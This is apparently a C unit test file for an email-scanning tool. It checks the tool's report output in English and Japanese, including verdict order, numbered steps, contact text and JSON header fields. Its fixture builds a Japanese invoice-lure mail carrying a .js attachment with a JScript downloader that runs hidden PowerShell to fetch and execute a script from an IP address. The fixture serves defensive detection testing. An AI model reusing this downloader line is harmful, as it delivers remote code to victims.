/*
 * The report for people (issue 16): which mail it is (text and JSON), the order verdict -> numbered
 * steps -> decisive findings -> object tree, one contact, info findings only when verbose, and
 * Japanese severity words, evidence phrases and "検出なし" in --lang ja.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "archive_tools.h"
#include "mail_builder.h"
#include "testutil.h"

#include <jansson.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static const char JS[] =
    "var s=new ActiveXObject(\"WScript.Shell\");s.Run(\"powershell -w hidden "
    "-c IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\");";

/* a Japanese mail (ISO-2022-JP subject and display name) carrying a downloader script */
static char *bad_mail(void)
{
    eg_mb *m = eg_mb_new();
    char *from = eg_mb_encoded_words("山田 太郎", EG_MB_JIS, 'B', 0);
    char fv[512];
    snprintf(fv, sizeof fv, "%s <yamada@example.net>", from);
    free(from);
    eg_mb_header(m, "From", fv);
    eg_mb_header(m, "To", "Sato <sato@example.jp>, kimura@example.jp");
    eg_mb_header(m, "Date", "Mon, 1 Jul 2024 10:00:00 +0900");
    eg_mb_header(m, "Message-ID", "<inv-1@example.net>");
    eg_mb_header_text(m, "Subject", "請求書のご送付", EG_MB_JIS, 'B');
    eg_mb_text(m, "請求書を添付します。\nパスワード: Kq7mZ2xw", EG_MB_JIS, EG_MB_7BIT);
    eg_mb_attach(m, "請求書.js", "application/octet-stream", (const uint8_t *)JS, sizeof JS - 1,
                 EG_MB_NAME_2231);
    char *r = eg_mb_build(m, NULL);
    eg_mb_free(m);
    return r;
}

static const char CLEAN[] =
    "From: Yamada <yamada@example.co.jp>\r\nTo: sato@example.jp\r\nSubject: meeting\r\n"
    "Date: Mon, 1 Jul 2024 10:00:00 +0900\r\nMessage-ID: <1@example.co.jp>\r\n"
    "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\n"
    "Tuesday at 14:00 works for us.\r\n";

static char *text(const eg_report *r, eg_lang lang, bool verbose, const char *contact)
{
    eg_text_options o = {lang, false, verbose, contact};
    char *t = eg_report_text_opt(r, &o);
    assert_non_null(t);
    return t;
}

static void header_facts_in_report_and_json(void **st)
{
    (void)st;
    char *mail = bad_mail();
    eg_report *r = eg_test_scan(mail, strlen(mail), NULL);
    assert_non_null(r);
    const eg_mail_info *m = eg_report_mail(r);
    assert_non_null(m);
    assert_string_equal(m->from_display, "山田 太郎");
    assert_string_equal(m->from_addr, "yamada@example.net");
    assert_string_equal(m->subject, "請求書のご送付");
    assert_string_equal(m->message_id, "<inv-1@example.net>");
    assert_string_equal(m->date, "Mon, 1 Jul 2024 10:00:00 +0900");
    assert_non_null(strstr(m->to, "Sato <sato@example.jp>"));
    assert_non_null(strstr(m->to, "kimura@example.jp"));
    assert_int_equal(m->size, strlen(mail));

    char *j = eg_report_json(r, EG_LANG_JA);
    json_error_t je;
    json_t *root = json_loads(j, 0, &je);
    assert_non_null(root);
    assert_int_equal(json_integer_value(json_object_get(root, "schema_version")), 2);
    json_t *jm = json_object_get(root, "mail");
    assert_true(json_is_object(jm));
    assert_string_equal(json_string_value(json_object_get(json_object_get(jm, "from"), "name")),
                        "山田 太郎");
    assert_string_equal(json_string_value(json_object_get(jm, "subject")), "請求書のご送付");
    assert_string_equal(json_string_value(json_object_get(jm, "message_id")),
                        "<inv-1@example.net>");
    assert_int_equal(json_integer_value(json_object_get(jm, "size")), strlen(mail));
    json_decref(root);
    free(j);

    char *t = text(r, EG_LANG_EN, false, NULL);
    assert_non_null(strstr(t, "  From: 山田 太郎 <yamada@example.net>\n"));
    assert_non_null(strstr(t, "  Subject: 請求書のご送付\n"));
    assert_non_null(strstr(t, "  Message-ID: <inv-1@example.net>\n"));
    free(t);
    eg_report_free(r);
    free(mail);

    /* not a mail: no mail object */
    static const char plain[] = "just some words\nand more words\n";
    eg_report *p = eg_test_scan(plain, sizeof plain - 1, NULL);
    assert_non_null(p);
    assert_null(eg_report_mail(p));
    j = eg_report_json(p, EG_LANG_EN);
    assert_non_null(strstr(j, "\"mail\":null"));
    free(j);
    eg_report_free(p);
}

/* position of needle in hay, or a failure */
static size_t at(const char *hay, const char *needle)
{
    const char *p = strstr(hay, needle);
    if (!p)
        fail_msg("\"%s\" not in:\n%s", needle, hay);
    return (size_t)(p - hay);
}

static void order_steps_and_contact(void **st)
{
    (void)st;
    char *mail = bad_mail();
    eg_report *r = eg_test_scan(mail, strlen(mail), NULL);
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    char *t = text(r, EG_LANG_EN, false, NULL);
    size_t v = at(t, "\nverdict: MALICIOUS"), w = at(t, "\nWhat to do first:\n  1. "),
           f = at(t, "\nFindings:\n  [critical] "), c = at(t, "\nContents:\n");
    assert_true(v < w && w < f && f < c);
    /* one contact, the default one */
    assert_non_null(strstr(t, "your IT department"));
    assert_null(strstr(t, "administrator"));
    assert_null(strstr(t, "your IT team"));
    /* numbered, each step once, at most six */
    char *steps = strndup(t + w, f - w);
    assert_null(strstr(steps, "  7. "));
    const char *body[16];
    size_t blen[16], nsteps = 0;
    for (const char *l = steps; (l = strstr(l, "\n  ")) && nsteps < 16; l++) {
        const char *dot = strstr(l, ". "), *end = strchr(l + 1, '\n');
        if (!dot || !end || dot > end)
            continue;
        body[nsteps] = dot + 2;
        blen[nsteps++] = (size_t)(end - dot - 2);
    }
    assert_true(nsteps >= 1 && nsteps <= 6);
    for (size_t i = 0; i < nsteps; i++)
        for (size_t k = i + 1; k < nsteps; k++)
            assert_false(blen[i] == blen[k] && !memcmp(body[i], body[k], blen[i]));
    free(steps);
    /* most severe first: no "[high]" line before the last "[critical]" one */
    const char *lastcrit = t + f, *p;
    while ((p = strstr(lastcrit + 1, "[critical]")))
        lastcrit = p;
    const char *firsthigh = strstr(t + f, "[high]");
    assert_true(!firsthigh || firsthigh > lastcrit);
    /* info-level findings only when verbose */
    assert_null(strstr(t, "[info]"));
    at(t, "more of information level: shown with --verbose");
    free(t);
    t = text(r, EG_LANG_EN, true, "Suzuki (ext. 1234)");
    if (!strstr(t, "[info]"))
        fail_msg("no info finding with verbose:\n%s", t);
    assert_non_null(strstr(t, "Suzuki (ext. 1234)"));
    assert_null(strstr(t, "your IT department"));
    free(t);
    t = text(r, EG_LANG_JA, false, "情報システム部 (内線 1234)");
    assert_non_null(strstr(t, "情報システム部 (内線 1234)"));
    assert_null(strstr(t, "管理者"));
    free(t);
    eg_report_free(r);
    free(mail);
}

static void japanese_words(void **st)
{
    (void)st;
    char *mail = bad_mail();
    eg_report *r = eg_test_scan(mail, strlen(mail), NULL);
    char *t = text(r, EG_LANG_JA, true, NULL);
    assert_non_null(strstr(t, "判定: 危険"));
    assert_non_null(strstr(t, "まず行うこと:\n  1. "));
    assert_non_null(strstr(t, "[重大]"));
    assert_non_null(strstr(t, "情報システム部門"));
    static const char *const en[] = {"[critical]", "[high]",     "[medium]", "[low]",   "[info]",
                                     "evidence:",  "What to do", "verdict:", "Findings"};
    for (size_t i = 0; i < sizeof en / sizeof en[0]; i++)
        if (strstr(t, en[i]))
            fail_msg("English \"%s\" in:\n%s", en[i], t);
    free(t);
    eg_report_free(r);
    free(mail);

    r = eg_test_scan(CLEAN, sizeof CLEAN - 1, NULL);
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_CLEAN);
    t = text(r, EG_LANG_JA, false, NULL);
    assert_non_null(strstr(t, "判定: 検出なし"));
    assert_null(strstr(t, "安全"));
    assert_null(strstr(t, "まず行うこと"));
    free(t);
    eg_report_free(r);
}

/* The analyzers' fixed phrases in evidence come out in Japanese; what is quoted stays. */
static void evidence_phrases_in_japanese(void **st)
{
    (void)st;
    if (!eg_test_have("zip"))
        skip();
    char *dir = eg_test_tmpdir("explain");
    static const char doc[] = "quarterly numbers\n";
    eg_tf_file f = {"q.txt", doc, sizeof doc - 1};
    size_t zlen;
    uint8_t *zip =
        eg_tf_make(dir, &f, 1, "zip -q -P unguessable-Zz9 out.zip q.txt", "out.zip", &zlen);
    assert_non_null(zip);
    eg_mb *m = eg_mb_new();
    eg_mb_header(m, "From", "a@example.net");
    eg_mb_header(m, "To", "b@example.jp");
    eg_mb_header(m, "Subject", "numbers");
    eg_mb_text(m, "see \"entries not opened\" attached", EG_MB_UTF8, EG_MB_7BIT);
    eg_mb_attach(m, "q.zip", "application/zip", zip, zlen, EG_MB_NAME_PLAIN);
    char *mail = eg_mb_build(m, NULL);
    eg_mb_free(m);
    eg_report *r = eg_test_scan(mail, strlen(mail), NULL);
    char *en = text(r, EG_LANG_EN, true, NULL), *ja = text(r, EG_LANG_JA, true, NULL);
    assert_non_null(strstr(en, "entries not opened"));
    assert_null(strstr(ja, " entries not opened"));
    assert_non_null(strstr(ja, "個のエントリを開けず"));
    free(en);
    free(ja);
    eg_report_free(r);
    free(mail);
    free(zip);
    eg_test_rmrf(dir);
    free(dir);
}

int main(void)
{
    eg_global_init();
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(header_facts_in_report_and_json),
        cmocka_unit_test(order_steps_and_contact),
        cmocka_unit_test(japanese_words),
        cmocka_unit_test(evidence_phrases_in_japanese),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
